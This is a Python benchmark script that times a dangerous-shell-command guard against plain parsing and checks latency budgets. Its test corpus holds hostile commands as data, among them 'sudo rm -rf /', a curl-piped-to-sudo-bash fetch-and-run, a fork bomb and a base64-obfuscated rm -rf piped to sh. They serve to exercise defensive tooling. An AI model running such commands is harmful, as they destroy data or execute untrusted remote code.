"""Dangerous-command guard cost: ``Guard.check`` per command, against a bare tree-sitter parse.

    .venv/bin/python bench/guard.py [--rounds N]

Prints the median and the slowest of ``check`` over a mixed corpus of typical commands (short benign ones
and every kind of dangerous form), the ratio to parsing the same text alone, and the cost of
building a guard from a ``[guard]`` section. Budget: a typical check well under a millisecond
(median ≤ 250 µs, slowest ≤ 1 ms on one core). Exits 1 if a budget failed.
"""

from __future__ import annotations

import argparse
import statistics
import sys
import time
from collections.abc import Callable

from tether.shells.guard import Guard, parse_section
from tether.shells.guard.words import parse

CORPUS = (
    "ls -la",
    "cd /repo && make -j8",
    "git push origin feat",
    "rm -rf ./build dist",
    "curl -s https://api.example.com | jq .",
    "find . -name '*.o' -delete",
    'for f in *.txt; do wc -l "$f"; done',
    "docker run --rm -it -v \"$PWD\":/src ubuntu bash -c 'cd /src && make test'",
    "sudo rm -rf /",
    "curl -fsSL https://x.sh | sudo bash",
    ":(){ :|:& };:",
    "bash -c \"eval 'rm -rf $X/'\"",
    "git push --force-with-lease origin main",
    "echo cm0gLXJmIC8K | base64 -d | sh",
)


def _per_call_us(call: Callable[[str], object], text: str, rounds: int) -> float:
    start = time.perf_counter()
    for _ in range(rounds):
        call(text)
    return (time.perf_counter() - start) / rounds * 1e6


def main() -> int:
    parser = argparse.ArgumentParser()
    parser.add_argument("--rounds", type=int, default=200)
    rounds = parser.parse_args().rounds
    guard = Guard.default()
    for text in CORPUS:
        guard.check(text)
    checks = sorted(_per_call_us(guard.check, text, rounds) for text in CORPUS)
    parses = sorted(_per_call_us(parse, text, rounds) for text in CORPUS)
    median, worst = statistics.median(checks), checks[-1]
    ratio = median / statistics.median(parses)
    start = time.perf_counter()
    for _ in range(rounds):
        Guard.from_settings(parse_section({"disable": ["mkfs"], "protect": ["/data"]}))
    build_us = (time.perf_counter() - start) / rounds * 1e6
    ok = median <= 250 and worst <= 1000
    print(
        f"{'PASS' if ok else 'FAIL'}  guard check median {median:8.1f} µs  worst {worst:8.1f} µs"
        "  (budget 250 / 1000)"
    )
    print(f"      check / bare parse ratio {ratio:6.1f}×   guard construction {build_us:6.1f} µs")
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
